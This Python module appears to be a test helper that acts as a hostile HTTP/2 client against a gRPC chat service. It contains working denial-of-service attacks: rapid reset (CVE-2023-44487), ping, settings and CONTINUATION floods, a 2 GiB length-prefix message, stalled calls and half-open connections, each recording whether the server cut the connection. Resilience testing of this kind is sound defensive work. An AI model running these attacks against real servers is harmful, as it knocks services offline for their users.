"""What a hostile client does to the port: raw HTTP/2, or hardly that, over sockets of its own. Blocks."""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from collections.abc import Iterator
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.exceptions
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

Address = tuple[str, int]

_TIMEOUT = 5.0
# What the server has to say to a flood is said within so many seconds of its end.
_ANSWER = 2.0
_CHAT = "/warmline.v1.ChatService/Chat"


@dataclass
class Outcome:
    """How far an attack came: what was sent of it, and whether the server closed the connection."""

    sent: int = 0
    closed: bool = False


class Connection:
    """One HTTP/2 connection, ready to send on."""

    def __init__(self, address: Address) -> None:
        self.socket = socket.create_connection(address, _TIMEOUT)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.h2 = h2.connection.H2Connection(config)
        self.h2.initiate_connection()
        self.flush()
        # The server's settings, so that it takes what follows for a client's.
        self.h2.receive_data(self.socket.recv(65536))
        self.flush()

    def flush(self) -> None:
        """Send what there is to send."""
        self.socket.sendall(self.h2.data_to_send())

    def call(self, authority: str) -> int:
        """Begin a Chat, and say nothing on it."""
        stream: int = self.h2.get_next_available_stream_id()
        headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", _CHAT),
            (":authority", authority),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
        ]
        self.h2.send_headers(stream, headers)
        return stream


@contextlib.contextmanager
def connection(address: Address) -> Iterator[tuple[Connection, Outcome]]:
    """A connection that may be closed at any moment, which ends the attack."""
    outcome, made = Outcome(), Connection(address)
    try:
        yield made, outcome
    except (OSError, h2.exceptions.ProtocolError):
        outcome.closed = True
    finally:
        made.socket.close()


def rapid_reset(address: Address, count: int) -> Outcome:
    """Begin calls and reset each at once (CVE-2023-44487)."""
    with connection(address) as (made, outcome):
        for number in range(count):
            made.h2.reset_stream(made.call("service"))
            outcome.sent += 1
            if number % 50 == 0:
                made.flush()
                _drain(made)
        made.flush()
    return outcome


def ping_flood(address: Address, count: int) -> Outcome:
    """Pings without end."""
    return _frames(address, PingFrame(0, opaque_data=b"12345678").serialize(), count)


def settings_flood(address: Address, count: int) -> Outcome:
    """Settings without end, each of which is to be acknowledged."""
    return _frames(address, SettingsFrame(0, settings={4: 65535}).serialize(), count)


def continuation_flood(address: Address, megabytes: int) -> Outcome:
    """Headers that do not end (CVE-2024-27316)."""
    more = ContinuationFrame(1, data=b"\x00\x01a\x7f\x80\x00" + b"b" * 16_000)
    with connection(address) as (made, outcome):
        made.socket.sendall(HeadersFrame(1, data=b"\x82").serialize())
        _repeat(made, outcome, more.serialize(), megabytes * 1024 * 1024 // 16_000)
    return outcome


def _frames(address: Address, frame: bytes, count: int) -> Outcome:
    with connection(address) as (made, outcome):
        _repeat(made, outcome, frame, count)
        made.socket.settimeout(_ANSWER)
        with contextlib.suppress(TimeoutError):
            while not outcome.closed:
                outcome.closed = not made.socket.recv(65536)
    return outcome


def _repeat(made: Connection, outcome: Outcome, frame: bytes, count: int) -> None:
    """Send a frame again and again, and read what comes, until the server has enough of it."""
    for number in range(count):
        made.socket.sendall(frame)
        outcome.sent += 1
        if number % 50 == 0 and not _discard(made.socket):
            outcome.closed = True
            break


def silent_calls(address: Address, count: int, seconds: float) -> Outcome:
    """Calls that never say what they are for; waits until each was ended, or so long."""
    with connection(address) as (made, outcome):
        for _ in range(count):
            made.call("service")
            outcome.sent += 1
        made.flush()
        # One may be ended and then reset as well.
        ended: set[object] = set()
        until = time.monotonic() + seconds
        while len(ended) < count and time.monotonic() < until:
            for event in made.h2.receive_data(made.socket.recv(65536)):
                if type(event).__name__ in ("StreamEnded", "StreamReset"):
                    ended.add(getattr(event, "stream_id", None))
            made.flush()
        outcome.closed = len(ended) == count
    return outcome


def length_bomb(address: Address) -> Outcome:
    """A message that says it has 2 GiB; waits for the call's end."""
    with connection(address) as (made, outcome):
        stream = made.call("service")
        made.h2.send_data(stream, b"\0" + struct.pack(">I", 2**31 - 1) + b"x" * 100)
        made.flush()
        while not outcome.closed:
            for event in made.h2.receive_data(made.socket.recv(65536)):
                outcome.closed |= type(event).__name__ in ("StreamEnded", "StreamReset")
            made.flush()
    return outcome


@contextlib.contextmanager
def half_open(address: Address, count: int, text: bytes = b"") -> Iterator[list[socket.socket]]:
    """Connections that say nothing, or what is no HTTP/2; those that the server took."""
    with contextlib.ExitStack() as stack:
        taken = []
        for _ in range(count):
            made = stack.enter_context(socket.create_connection(address, _TIMEOUT))
            with contextlib.suppress(OSError):
                made.sendall(text)
                taken.append(made)
        yield taken


def _drain(made: Connection) -> None:
    made.socket.setblocking(False)
    try:
        while data := made.socket.recv(65536):
            made.h2.receive_data(data)
    except BlockingIOError:
        return
    finally:
        made.socket.settimeout(_TIMEOUT)
    raise ConnectionResetError


def _discard(connected: socket.socket) -> bool:
    """Read what is there; False where the other side has closed."""
    connected.setblocking(False)
    try:
        while connected.recv(65536):
            pass
    except BlockingIOError:
        return True
    finally:
        connected.settimeout(_TIMEOUT)
    return False
